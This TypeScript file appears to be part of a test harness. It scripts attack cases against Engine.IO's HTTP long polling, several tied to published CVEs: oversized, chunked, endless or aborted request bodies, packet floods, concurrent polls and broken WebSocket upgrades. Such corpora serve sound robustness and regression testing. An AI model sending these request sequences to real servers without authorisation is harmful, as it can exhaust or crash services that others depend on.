/** Attacks on Engine.IO's HTTP long polling. */
import { connectPacket, handshakeOf } from '../grammar/packets.ts'
import {
  HANDSHAKE_PATH,
  openPolling,
  poll,
  post,
  postBody,
  requestOf,
  upgradeTo,
  webSocketPath,
} from '../http.ts'
import { type Step, untilClosed, write } from '../script.ts'
import { frameOf } from '../wire.ts'
import type { CorpusCase } from './corpus-case.ts'

const MIB = 1024 * 1024
const ANSWERED = 'HTTP/1.1 '

const postPath = (sid: string): string => `${HANDSHAKE_PATH}polling&sid=${sid}`

/** The head of a body that is said to be of some length, and a piece of it. */
const unfinished = (bytes: number, piece: string): Step =>
  write((sid) => {
    const headers = { 'Content-Type': 'text/plain', 'Content-Length': String(bytes) }
    return Buffer.concat([requestOf({ method: 'POST', path: postPath(sid), headers }), Buffer.from(piece)])
  }, 1)

const chunked = (chunks: readonly string[]): Step =>
  write((sid) => {
    const headers = { 'Content-Type': 'text/plain', 'Transfer-Encoding': 'chunked' }
    const body = chunks.map((chunk) => `${chunk.length.toString(16)}\r\n${chunk}\r\n`).join('')
    return Buffer.concat([
      requestOf({ method: 'POST', path: postPath(sid), headers }),
      Buffer.from(`${body}0\r\n\r\n`),
    ])
  }, chunks.length)

const twice = (step: Step): Step => ({
  ...step,
  frames: 2 * step.frames,
  bytes: (sid) => {
    const bytes = typeof step.bytes === 'function' ? step.bytes(sid) : step.bytes
    return Buffer.concat([bytes, bytes])
  },
})

export const POLLING_CASES: readonly CorpusCase[] = [
  {
    name: 'a body above what the transport takes',
    // Any size was kept in engine.io < 4.0.0.
    source: 'CVE-2020-36048, GHSA-j4f2-536g-r55m',
    steps: () => [openPolling(), postBody(`4${'x'.repeat(MIB + 1024)}`, 1)],
  },
  {
    name: 'a body above what the transport takes, in chunks',
    source: 'CVE-2020-36048, GHSA-j4f2-536g-r55m',
    steps: () => [
      openPolling(),
      { ...chunked(Array.from({ length: 40 }, () => `4${'x'.repeat(32 * 1024)}`)), until: [ANSWERED] },
    ],
  },
  {
    name: 'a body of very many empty packets',
    source: 'CVE-2020-36048, GHSA-j4f2-536g-r55m',
    steps: () => [openPolling(), postBody('\x1e'.repeat(100_000), 1)],
  },
  {
    name: 'a body of very many packets that are read over',
    steps: (grammar) => [
      openPolling(),
      post([connectPacket(handshakeOf(grammar))]),
      post(Array.from({ length: 5000 }, () => '6')),
    ],
  },
  {
    name: 'a binary body where only texts may be',
    // Left a request without an answer, or worse, in engine.io < 6.6.7.
    source: 'CVE-2026-59725',
    steps: () => [
      openPolling(),
      postBody(Buffer.from([0, 1, 2, 255, 254]), 1, { 'Content-Type': 'application/octet-stream' }),
    ],
  },
  {
    name: 'a binary body, aborted',
    source: 'CVE-2026-59725',
    steps: () => [
      openPolling(),
      write((sid) => {
        const headers = { 'Content-Type': 'application/octet-stream', 'Content-Length': '1000000' }
        return requestOf({ method: 'POST', path: postPath(sid), headers })
      }, 1),
    ],
  },
  {
    name: 'a second poll while the first one waits',
    // Requests were left open in engine.io < 6.6.9.
    source: 'GHSA-r635-g3xr-vw7x',
    steps: () => [openPolling(), poll(), twice(poll()), poll()],
  },
  {
    name: 'two bodies at a time',
    source: 'GHSA-r635-g3xr-vw7x',
    steps: (grammar) => [openPolling(), twice(post([connectPacket(handshakeOf(grammar))])), poll()],
  },
  {
    name: 'a body that never ends',
    steps: () => [openPolling(), unfinished(1000, '40')],
  },
  {
    name: 'a method that polling does not have',
    steps: () => [
      openPolling(),
      ...['PUT', 'DELETE', 'OPTIONS', 'HEAD', 'PATCH'].map((method) =>
        write((sid) => requestOf({ method, path: postPath(sid) }), 1, ANSWERED),
      ),
    ],
  },
  {
    name: 'a session that is closed by its packet, and spoken to again',
    steps: () => [openPolling(), post(['1']), poll(), post(['4', '2'])],
  },
  {
    name: 'an upgrade that begins and is not finished',
    // Uncaught exception in engine.io < 6.2.1 when the connection was reset meanwhile.
    source: 'CVE-2022-41940, GHSA-r7qp-cfhv-p84w',
    steps: () => [openPolling(), upgradeTo(webSocketPath), write(frameOf({}, '2probe'), 1, '3probe')],
  },
  {
    name: 'an upgrade without its probe',
    source: 'CVE-2022-41940, GHSA-r7qp-cfhv-p84w',
    steps: () => [openPolling(), upgradeTo(webSocketPath), untilClosed(frameOf({}, '5'), 1)],
  },
  {
    name: 'packets over both transports while one takes over',
    steps: (grammar) => [
      openPolling(),
      post([connectPacket(handshakeOf(grammar))]),
      upgradeTo(webSocketPath),
      untilClosed(
        Buffer.concat([frameOf({}, '2probe'), frameOf({}, '42/caps,["token","x"]'), frameOf({}, '5')]),
        3,
      ),
    ],
  },
  {
    name: 'an upgrade of a session that nobody has',
    steps: () => [upgradeTo(() => webSocketPath('AAAAAAAAAAAAAAAAAAAA'))],
  },
]
